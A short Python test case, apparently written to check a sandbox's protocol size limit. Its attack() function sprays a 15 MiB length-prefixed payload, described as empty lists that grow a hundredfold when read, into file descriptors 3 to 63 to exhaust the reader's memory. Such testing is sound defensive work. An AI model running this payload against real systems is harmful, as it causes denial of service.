"""Tries: 16 MiB of empty lists, which take a hundred times as much once they are read.

Layer: the protocol's limit is chosen for it.
Aims at: exercise 1.
"""


def attack():
    count = 15 * 2**20
    payload = b"\xdd" + count.to_bytes(4, "big") + b"\x90" * count
    for descriptor in range(3, 64):
        try:
            written = os.write(descriptor, len(payload).to_bytes(8, "big"))
            while written and payload:
                payload = payload[os.write(descriptor, payload) :]
        except OSError:
            pass
    return [1, 2]
